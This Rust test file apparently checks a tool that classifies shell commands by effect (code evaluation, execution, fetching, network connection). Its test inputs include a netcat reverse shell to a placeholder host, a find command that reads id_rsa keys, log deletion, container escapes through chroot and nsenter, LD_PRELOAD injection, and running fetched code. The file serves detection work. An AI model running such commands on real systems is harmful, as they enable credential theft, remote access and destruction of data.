//! Interpreters and programs that start others.

use model::{Provenance, Value};

use super::*;

#[test]
fn shells_take_code() {
    check(&[
        ("sh -c id", "evaluate shell `id`"),
        ("/bin/bash -lc id", "evaluate shell `id`"),
        ("bash -xec id", "evaluate shell `id`"),
        ("bash -euo pipefail -c id", "evaluate shell `id`"),
        (
            "bash --norc --rcfile /dev/null -ic id",
            "evaluate shell `id`",
        ),
        ("bash -c -- id", "evaluate shell `id`"),
        ("busybox sh -c id", "evaluate shell `id`"),
        ("/bin/zsh-5.9 -c id", "evaluate shell `id`"),
        ("bash /opt/x.sh a", "execute bash /opt/x.sh a"),
        ("bash -i", "execute bash -i"),
        ("sh", "execute sh"),
    ]);
}

#[test]
fn shells_read_code() {
    for (line, input, expected) in [
        ("sh", Value::literal("id"), "evaluate shell `id`"),
        (
            "bash -s -- a b",
            Value::literal("id"),
            "evaluate shell `id`",
        ),
        ("bash -", Value::literal("id"), "evaluate shell `id`"),
        (
            "bash /dev/stdin",
            Value::literal("id"),
            "evaluate shell `id`",
        ),
        (
            "sh",
            Value::unknown(Provenance::Fetched("u".to_owned())),
            "evaluate shell `{content of u}`",
        ),
        (
            "sudo -E bash -",
            Value::unknown(Provenance::Fetched("u".to_owned())),
            "evaluate shell `{content of u}`",
        ),
        (
            "sh",
            Value::unknown(Provenance::Received(3)),
            "execute sh <#3 ; evaluate shell `{received}`",
        ),
        (
            "sh",
            Value::unknown(Provenance::Environment("CMD".to_owned())),
            "evaluate shell `{CMD}`",
        ),
    ] {
        let acts = outcome(|_| {}, line, Some(input)).acts;
        assert_eq!(acts.join(" ; "), expected, "{line}");
    }
}

#[test]
fn scripts_the_program_wrote_are_followed() {
    let fetched = Value::unknown(Provenance::Fetched("u".to_owned()));
    let acts = outcome(
        |world| world.remember(&"/tmp/x.sh".into(), fetched, false),
        "bash /tmp/x.sh",
        None,
    )
    .acts;
    assert_eq!(
        acts,
        ["execute bash /tmp/x.sh", "evaluate shell `{content of u}`"]
    );
    let write =
        |world: &mut World| world.remember(&"/tmp/x".into(), "#!/bin/sh\nid\n".into(), false);
    let acts = outcome(write, "./x", None).acts;
    assert_eq!(acts, ["execute ./x", "evaluate shell `#!/bin/sh\nid\n`"]);
    let write = |world: &mut World| {
        world.remember(&"x".into(), "#!/usr/bin/env python3\npass\n".into(), false)
    };
    assert_eq!(
        outcome(write, "nohup ./x", None).acts[1],
        "evaluate Python `#!/usr/bin/env python3\npass\n`"
    );
    let write = |world: &mut World| world.remember(&"x".into(), "\x7fELF\u{1}".into(), false);
    assert_eq!(outcome(write, "./x", None).acts, ["execute ./x"]);
}

#[test]
fn other_interpreters_take_code() {
    check(&[
        ("python3 -c 'import os'", "evaluate Python `import os`"),
        ("python3.11 -uc 'import os'", "evaluate Python `import os`"),
        ("pypy3 -Sc pass", "evaluate Python `pass`"),
        ("python -W ignore -cpass", "evaluate Python `pass`"),
        (
            "python3 -m http.server 80",
            "execute python3 -m http.server 80",
        ),
        ("python3 /opt/x.py -c y", "execute python3 /opt/x.py -c y"),
        ("perl -e 'print 1'", "evaluate Perl `print 1`"),
        ("perl -MIO -we a -e b", "evaluate Perl `a\nb`"),
        ("perl -lane print", "evaluate Perl `print`"),
        ("ruby -rsocket -e x", "evaluate Ruby `x`"),
        ("php -r x", "evaluate PHP `x`"),
        ("php8.1 -d a=b -r x", "evaluate PHP `x`"),
        ("node --eval=x", "evaluate JavaScript `x`"),
        ("nodejs -e x", "evaluate JavaScript `x`"),
        ("lua5.3 -e x", "evaluate Lua `x`"),
        ("node server.js -e x", "execute node server.js -e x"),
        ("python3 --version", "execute python3 --version"),
    ]);
    let acts = outcome(|_| {}, "python3 -", Some("pass".into())).acts;
    assert_eq!(acts, ["evaluate Python `pass`"]);
}

#[test]
fn wrappers_hand_on() {
    let executed = "execute x -c y";
    for line in [
        "nohup x -c y",
        "setsid x -c y",
        "env x -c y",
        "env -i x -c y",
        "env -u A x -c y",
        "sudo x -c y",
        "sudo -u root -- x -c y",
        "doas -u root x -c y",
        "timeout 5 x -c y",
        "timeout -s KILL -k 5 10s x -c y",
        "timeout -t 5 x -c y",
        "nice -n 19 x -c y",
        "nice -19 x -c y",
        "nice x -c y",
        "ionice -c3 x -c y",
        "taskset -c 0-3 x -c y",
        "stdbuf -oL x -c y",
        "time -p x -c y",
        "exec x -c y",
        "exec -a name x -c y",
        "command x -c y",
        "builtin x -c y",
        "busybox x -c y",
        "toybox x -c y",
        "strace -f -o /dev/null x -c y",
        "tini -g -- x -c y",
        "dumb-init x -c y",
        "gosu root x -c y",
        "su-exec root:root x -c y",
        "chpst -u root x -c y",
        "flock /tmp/l x -c y",
        "flock -n /tmp/l x -c y",
        "unshare -m -p --fork x -c y",
        "proxychains4 -q x -c y",
        "watch -x x -c y",
        "screen -dmS n x -c y",
        "systemd-run --unit n x -c y",
        "start-stop-daemon --start --background --exec x -- -c y",
        "start-stop-daemon -S -b -x x -- -c y",
        "runuser -u nobody -- x -c y",
        "env -S 'x -c y'",
        "busybox nohup x -c y",
        "sudo nohup nice -n 5 setsid x -c y",
    ] {
        assert_eq!(acts(line).join(" ; "), executed, "{line}");
    }
}

#[test]
fn wrappers_that_take_code() {
    for line in [
        "su -c id",
        "su - root -c id",
        "su root -c id",
        "runuser -l u -c id",
        "script -qc id /dev/null",
        "watch -n 1 id",
        "flock /tmp/l -c id",
        "sudo -s id",
        "tmux new-session -d -s n id",
        "tmux send-keys -t 0 id Enter",
        "screen -S n -X stuff id",
    ] {
        assert_eq!(acts(line), ["evaluate shell `id`"], "{line}");
    }
}

#[test]
fn wrappers_that_do_something_themselves() {
    check(&[
        ("parallel ::: id", "evaluate shell `id\n`"),
        (
            "parallel -j2 echo {} x ::: id",
            "evaluate shell `echo id x`",
        ),
        (
            "env A=b LD_PRELOAD=/x.so y",
            "variable A=b ; preload /x.so ; variable LD_PRELOAD=/x.so ; execute y",
        ),
        ("chroot /mnt x -c y", "root /mnt ; execute x -c y"),
        ("chroot /host", "root /host ; execute sh -i"),
        (
            "chroot --userspec=0 /mnt sh -c id",
            "root /mnt ; evaluate shell `id`",
        ),
        ("nsenter -t 1 -m -u -i -n x", "namespace 1 ; execute x"),
        (
            "nsenter --target=1 --mount --pid -- x",
            "namespace 1 ; execute x",
        ),
        (
            "nsenter -t1 -a sh -c id",
            "namespace 1 ; evaluate shell `id`",
        ),
        (
            "nsenter --mount=/host/proc/1/ns/mnt -- x",
            "namespace /host/proc/1/ns/mnt ; execute x",
        ),
        ("find / -name id_rsa -exec cat {} ';'", "read //id_rsa"),
        ("find /var/log -type f -delete", "delete /var/log"),
        (
            "find . -exec x {} + -exec z {} ';'",
            "execute x . ; execute z .",
        ),
    ]);
}

#[test]
fn xargs_takes_its_input_as_arguments() {
    for (line, input, expected) in [
        ("xargs x -a", "1 2\n3", "execute x -a 1 2 3 <null"),
        ("xargs -n1 x", "1", "execute x 1 <null"),
        ("xargs -I{} x -u {} y", "1\n", "execute x -u 1 y <null"),
        ("xargs -I % sh -c 'id %'", "1\n", "evaluate shell `id 1`"),
        ("xargs -0 x", "a b\0c", "execute x a b c <null"),
        ("xargs -d '\\n' x", "a b\nc", "execute x a b c <null"),
    ] {
        let acts = outcome(|_| {}, line, Some(input.into())).acts;
        assert_eq!(acts.join(" ; "), expected, "{line}");
    }
}

#[test]
fn jobs_for_later_are_scheduled() {
    let acts = outcome(|_| {}, "at now + 1 minute", Some("id".into())).acts;
    assert_eq!(
        acts,
        ["schedule now + 1 minute `id`", "evaluate shell `id`"]
    );
}

#[test]
fn programs_brought_along_are_started_whatever_their_name() {
    check(&[
        (
            "/tmp/nc -e /bin/sh h 1",
            "execute /tmp/nc -e /bin/sh h 1 ; connect 1 h 1 ; execute /bin/sh <#1 >#1",
        ),
        ("./ps aux", "execute ./ps aux"),
        ("/usr/local/bin/bash -c id", "evaluate shell `id`"),
        ("/opt/venv/bin/python -c pass", "evaluate Python `pass`"),
    ]);
    let copy = |world: &mut World| {
        run(
            world,
            Call::new("cp".into(), vec!["/bin/nc".into(), "/tmp/x".into()]),
        );
    };
    let acts = outcome(copy, "/tmp/x -e sh h 1", None).acts;
    assert_eq!(
        acts.join(" ; "),
        "read /bin/nc ; execute /tmp/x -e sh h 1 ; connect 1 h 1 ; execute sh <#1 >#1"
    );
}

#[test]
fn what_runs_from_a_fetched_folder_was_fetched() {
    for (setup, line) in [
        ("git clone http://h/r /opt/r", "/opt/r/run.sh"),
        ("git clone http://h/r", "./r/run.sh"),
        ("git clone http://h/r", "bash r/run.sh"),
    ] {
        let budget = Budget::default();
        let mut world = World::new(&budget);
        for line in [setup, line] {
            let words = split_words(&Value::literal(line));
            run(&mut world, Call::new(words[0].clone(), words[1..].to_vec()));
        }
        let acts = world.finish().acts;
        let is_fetched = acts[1..].iter().any(|act| match &act.behavior {
            Behavior::Execute { program, .. } => program.fetched_from().is_some(),
            Behavior::Evaluate { code, .. } => code.fetched_from().is_some(),
            _ => false,
        });
        assert!(is_fetched, "{line}: {acts:?}");
    }
}

#[test]
fn an_unpacked_archive_is_as_fetched_as_the_archive() {
    let budget = Budget::default();
    let mut world = World::new(&budget);
    for line in [
        "curl -o /tmp/a.tgz http://h/a.tgz",
        "tar xzf /tmp/a.tgz -C /opt",
        "cd /opt/a",
        "./configure",
        "cd /srv",
        "./configure",
    ] {
        let words = split_words(&Value::literal(line));
        run(&mut world, Call::new(words[0].clone(), words[1..].to_vec()));
    }
    let acts = world.finish().acts;
    let fetched: Vec<bool> = acts
        .iter()
        .filter_map(|act| match &act.behavior {
            Behavior::Execute { program, .. } => Some(program.fetched_from().is_some()),
            _ => None,
        })
        .collect();
    assert_eq!(fetched, [true, false]);
}

#[test]
fn a_program_made_from_fetched_source_is_as_fetched() {
    let budget = Budget::default();
    let mut world = World::new(&budget);
    for line in [
        "curl -o x.c http://h/x.c",
        "gcc -O2 -o /tmp/y x.c -lpthread",
        "/tmp/y",
    ] {
        let words = split_words(&Value::literal(line));
        run(&mut world, Call::new(words[0].clone(), words[1..].to_vec()));
    }
    let acts = world.finish().acts;
    let Some(Behavior::Execute { program, .. }) = acts.last().map(|act| &act.behavior) else {
        panic!("{acts:?}")
    };
    assert_eq!(program.fetched_from(), Some("http://h/x.c"));
}

#[test]
fn a_shell_whose_input_is_a_file_runs_what_the_file_holds() {
    let budget = Budget::default();
    let mut world = World::new(&budget);
    world.fetch("http://h/x".into(), Some("/tmp/x".into()));
    let mut call = Call::new("bash".into(), Vec::new());
    call.input = Stream::File("/tmp/x".into());
    run(&mut world, call);
    let acts: Vec<String> = world
        .finish()
        .acts
        .iter()
        .map(|act| show(&act.behavior))
        .collect();
    assert_eq!(
        acts,
        [
            "fetch http://h/x > /tmp/x",
            "evaluate shell `{content of http://h/x}`"
        ]
    );
}

#[test]
fn a_trap_is_code() {
    check(&[
        ("trap 'id' EXIT", "evaluate shell `id`"),
        ("trap - INT", ""),
        ("trap '' INT", ""),
    ]);
}
